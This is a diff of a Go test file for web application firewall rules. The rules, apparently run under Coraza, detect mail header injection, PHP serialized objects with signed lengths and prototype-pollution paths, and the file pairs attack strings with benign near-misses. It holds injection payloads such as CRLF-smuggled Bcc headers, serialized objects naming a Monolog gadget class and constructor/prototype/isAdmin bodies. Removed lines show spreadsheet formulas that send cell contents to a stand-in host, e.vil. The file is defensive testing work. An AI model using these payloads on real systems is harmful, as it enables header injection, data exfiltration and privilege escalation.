@@ -11,15 +11,11 @@ import (
 )
 
 // formatAttacks are the twelfth fresh-eyes attack's (attack 16) values
-// for rules 210165-210167, and more of their kind.
+// for rules 210165 and 210167, and more of their kind.
 var formatAttacks = []string{
 	// 210165: mail headers, SMTP
 	"a@b.c\r\nBcc: victim@x.com", "a@b.c\nCc: victim@x.com", "ann@example.com\r\nSubject: you won", "a@b.c\r\n Reply-To: e@vil.x",
 	"a@b.c\r\nReturn-Path: e@vil.x", "Ann\r\nBcc: victim@x.com", "a@b.c\r\nRCPT TO:<x@y.z>",
-	// 210166: formulas that send cells away
-	`=HYPERLINK("http://e.vil/?x="&A1&B1,"Click")`, `=WEBSERVICE("http://e.vil/?"&A1)`, `+IMAGE("http://e.vil/p.png?"&A2)`,
-	`@IMPORTXML("http://e.vil/?"&C3,"//a")`, ` =HYPERLINK("https://e.vil/?q="&A1&A2)`, `=IMPORTDATA("http://e.vil/?"&A1)`,
-	`-FILTERXML(WEBSERVICE("http://e.vil/?"&A1),"//x")`,
 	// 210167: PHP 5's signed lengths
 	`O:+37:"Monolog\Handler\GroupHandler":1:{s:1:"x";i:1;}`, `a:1:{i:0;O:+8:"stdClass":0:{}}`, `C:+11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}`,
 	`O:+8:"stdClass":+0:{}`,
@@ -29,20 +25,33 @@ var formatAttacks = []string{
 var formatBenign = []string{
 	"ann@example.com", "I got this:\nFrom: ann@example.com\nSubject: hi\nTo: bob@example.com", "Dear team,\r\nTo: whom it may concern",
 	"ann@example.com\r\nthanks for the help", "Notes:\nCc: the manager next time", "list:\na@b.c\nd@e.f",
+	// attack 17's false positives of 210165 before it read a first line
+	// of one word and addresses alone after a routing header; spreadsheet
+	// formulas (210166 was dropped for them)
+	"ann@example.com\nCc: bob@example.com please, he's my manager", "Ann Lee\nann.lee@example.com\nTo: reach me faster call +1 555 0100",
+	"ann@example.com\nbob@example.com\nCc: carol@example.com",
+	"support@example.com\nFrom: the helpdesk team, with thanks", "Who was on it?\nBcc: hr@example.com (I added them myself)",
+	"sales@example.com\nReply-To: use orders@example.com for orders", "ann@example.com\nTo: whom it may concern, I need a refund",
+	`=HYPERLINK("https://support.example.com/ticket/"&A2, A2)`, `=IMAGE("https://cdn.example.com/p/"&B2&".png")`,
 	`=HYPERLINK("https://example.com","Example")`, `=SUM(A1:A3)&" total"`, `=IMAGE("https://example.com/logo.png")`,
 	`=A1&B1`, "= hyperlink (docs)", `@image("x")`,
 	`O:8 is the room number`, `s:+1`, `O:+ rating`, `a:2:{i:0;s:1:"a";i:1;s:1:"b";}`,
 }
 
-// TestFormatRules: the rules' expressions on the values (after the
+// formatBenignCRS are near-misses the CRS alone refuses too (a pasted
+// SMTP log): on the expressions only.
+var formatBenignCRS = []string{"My server log shows:\nMAIL FROM:<noreply@example.com>\nRCPT TO:<ann@example.com>\n550 5.1.1 user unknown. Why?"}
+
+// TestFormatRules: the rules' expressions, as Coraza compiles them (with
+// (?sm)), on the values (after the
 // engine's decoding) match the attacks and none of the near-misses.
 func TestFormatRules(t *testing.T) {
 	var res []*regexp.Regexp
-	for _, m := range regexp.MustCompile(`"@rx ([^"]*(?:\\"[^"]*)*)" "id:2101(?:65|66|67),`).FindAllStringSubmatch(formatRules, -1) {
-		res = append(res, regexp.MustCompile(m[1]))
+	for _, m := range regexp.MustCompile(`"@rx ([^"]*(?:\\"[^"]*)*)" "id:2101(?:65|67),`).FindAllStringSubmatch(formatRules, -1) {
+		res = append(res, regexp.MustCompile("(?sm)"+m[1]))
 	}
-	if len(res) != 3 {
-		t.Fatalf("%d expressions in formatRules, want 3", len(res))
+	if len(res) != 2 {
+		t.Fatalf("%d expressions in formatRules, want 2", len(res))
 	}
 	matches := func(v string) bool {
 		for _, re := range res {
@@ -57,7 +66,7 @@ func TestFormatRules(t *testing.T) {
 			t.Errorf("no rule matches the attack %q", v)
 		}
 	}
-	for _, v := range formatBenign {
+	for _, v := range append(append([]string{}, formatBenign...), formatBenignCRS...) {
 		if matches(v) {
 			t.Errorf("a rule matches the benign %q", v)
 		}
@@ -98,11 +107,11 @@ func TestProtoPathBeyondTheCRS(t *testing.T) {
 	const js, form = "application/json", "application/x-www-form-urlencoded"
 	misses := []probe{
 		{name: "JSON path", method: "POST", path: "/api/set", contentType: js, body: `{"path":["constructor","prototype","isAdmin"],"value":true}`},
-		{name: "JSON nested path", method: "POST", path: "/api/set", contentType: js, body: `{"op":{"path":["a","constructor","prototype"]},"value":1}`},
-		{name: "JSON path, padded", method: "POST", path: "/api/set", contentType: js, body: `{"path":[" constructor ","prototype"]}`},
+		{name: "JSON path in an object", method: "POST", path: "/api/set", contentType: js, body: `{"op":{"path":["constructor","prototype","polluted"]},"value":1}`},
+		{name: "JSON path, padded", method: "POST", path: "/api/set", contentType: js, body: `{"path":[" constructor ","prototype","x"]}`},
 		{name: "form indexed path", method: "POST", path: "/api/set", contentType: form, body: "path[0]=constructor&path[1]=prototype&path[2]=isAdmin&value=1"},
 		{name: "form repeated path", method: "POST", path: "/api/set", contentType: form, body: "path[]=constructor&path[]=prototype&path[]=isAdmin&value=1"},
-		{name: "query indexed path", method: "GET", path: "/api/set?p[3]=constructor&p[4]=prototype"},
+		{name: "query indexed path", method: "GET", path: "/api/set?p[0]=constructor&p[1]=prototype&p[2]=x"},
 	}
 	benign := []probe{
 		{name: "JSON glossary", method: "POST", path: "/api/terms", contentType: js, body: `{"terms":["constructor","closure","prototype"]}`},
@@ -110,36 +119,44 @@ func TestProtoPathBeyondTheCRS(t *testing.T) {
 		{name: "JSON apart", method: "POST", path: "/api/terms", contentType: js, body: `{"a":["constructor"],"b":["prototype"]}`},
 		{name: "JSON stage", method: "POST", path: "/api/projects", contentType: js, body: `{"stage":"prototype","role":"constructor"}`},
 		{name: "form apart", method: "POST", path: "/api/terms", contentType: form, body: "a[0]=constructor&b[1]=prototype"},
+		// attack 17's false positives before the path had to start with
+		// the two words and go on
+		{name: "JSON glossary of four", method: "POST", path: "/api/terms", contentType: js, body: `{"terms":["class","constructor","prototype","inheritance"]}`},
+		{name: "JSON quiz", method: "POST", path: "/api/quiz", contentType: js, body: `{"answers":["constructor","prototype"]}`},
+		{name: "form tags", method: "POST", path: "/api/tags", contentType: form, body: "tags[]=constructor&tags[]=prototype"},
+		{name: "JSON steps", method: "POST", path: "/api/plan", contentType: js, body: `{"steps":["research","constructor","prototype","launch"]}`},
 	}
 	runBeyondTheCRS(t, nil, misses, benign)
 }
 
-// TestPreviousElement: the names rule 210168 reads.
-func TestPreviousElement(t *testing.T) {
-	for name, want := range map[string]string{
-		"json.path.1": "json.path.0", "json.a.b.12": "json.a.b.11", "path[1]": "path[0]", "a[b][3]": "a[b][2]", "path[1][]": "path[0][]",
-		"json.path.0": "", "path[0]": "", "path": "", "json.path.01": "", "path[x]": "", "path[]": "", "json.p.-1": "", "1": "",
+// TestElementIndex: the names rule 210168 reads.
+func TestElementIndex(t *testing.T) {
+	type split struct {
+		prefix, suffix string
+		n              int
+	}
+	for name, want := range map[string]*split{
+		"json.path.1": {"json.path.", "", 1}, "json.a.b.12": {"json.a.b.", "", 12}, "path[1]": {"path[", "]", 1},
+		"a[b][3]": {"a[b][", "]", 3}, "path[1][]": {"path[", "][]", 1}, "json.path.0": {"json.path.", "", 0},
+		"path": nil, "json.path.01": nil, "path[x]": nil, "path[]": nil, "json.p.-1": nil, "1": nil, "json.p.+1": nil,
 	} {
-		got, ok := previousElement(name)
-		if ok != (want != "") || got != want {
-			t.Errorf("previousElement(%q) = %q, %v; want %q", name, got, ok, want)
+		prefix, suffix, n, ok := elementIndex(name)
+		if ok != (want != nil) || ok && (prefix != want.prefix || suffix != want.suffix || n != want.n) {
+			t.Errorf("elementIndex(%q) = %q, %q, %d, %v; want %+v", name, prefix, suffix, n, ok, want)
 		}
 	}
 }
 
-// FuzzPreviousElement: any argument name, without a panic; a previous
-// element's name is as long or one byte shorter (10 → 9) and differs.
-func FuzzPreviousElement(f *testing.F) {
+// FuzzElementIndex: any argument name, without a panic; put back
+// together, the parts are the name.
+func FuzzElementIndex(f *testing.F) {
 	for _, s := range []string{"json.path.1", "path[1]", "path[1][]", "a[", "]", ".", "[]", "x.10", "x[10]"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, name string) {
-		prev, ok := previousElement(name)
-		if !ok {
-			return
-		}
-		if prev == name || len(prev) > len(name) || len(prev) < len(name)-1 {
-			t.Errorf("previousElement(%q) = %q", name, prev)
+		prefix, suffix, n, ok := elementIndex(name)
+		if ok && prefix+strconv.Itoa(n)+suffix != name {
+			t.Errorf("elementIndex(%q) = %q, %q, %d", name, prefix, suffix, n)
 		}
 	})
 }
